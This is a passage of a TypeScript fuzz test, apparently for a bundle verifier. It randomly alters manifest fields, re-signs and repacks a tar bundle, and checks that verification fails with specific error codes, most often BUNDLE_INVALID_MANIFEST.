      for (let e = rng.int(1, 3); e > 0; e--) {
        const path = rng.pick(fields);
        let o = m as Record<string | number, unknown>;
        for (const p of path.slice(0, -1)) {
          const next = o[p];
          o = (typeof next === 'object' && next !== null ? next : {}) as Record<string | number, unknown>;
        }
        const last = path[path.length - 1]!;
        if (rng.chance(0.15)) delete o[last];
        else o[last] = rng.pick(values);
      }
      let text: string;
      try {
        text = canonicalJson(m as never);
      } catch {
        text = JSON.stringify(m, null, 2) + '\n';
      }
      const manifest = Buffer.from(text);
      const list = formatChecksumList([{ algorithm: 'SHA256', path: 'manifest.json', digest: sha(manifest) }, ...files.map((f) => ({ algorithm: 'SHA256' as const, path: f.rel, digest: sha(f.data) }))]);
      const msg = new TextEncoder().encode(list);
      const sig = Buffer.from(encodeSignature(signMessage(alice.pair.secretKey, msg, 'verify with alice.pub'), msg));
      const file = join(dir, 'fuzz.tar');
      writeFileSync(file, packRaw([{ ...entries[0]!, data: sig }, { ...entries[1]!, data: manifest }, ...entries.slice(2)]));
      // codeOf re-throws anything that is not a SneakpackError, failing the test.
      const code = await codeOf(verifyBundle(file, { trusted: alice.trusted }));
      outcomes.set(code, (outcomes.get(code) ?? 0) + 1);
    }
    expect([...outcomes.values()].reduce((a, b) => a + b, 0)).toBe(150);
    // Nearly every edit breaks something, and the reader says what.
    expect(outcomes.get('BUNDLE_INVALID_MANIFEST') ?? 0).toBeGreaterThan(50);
  });
});
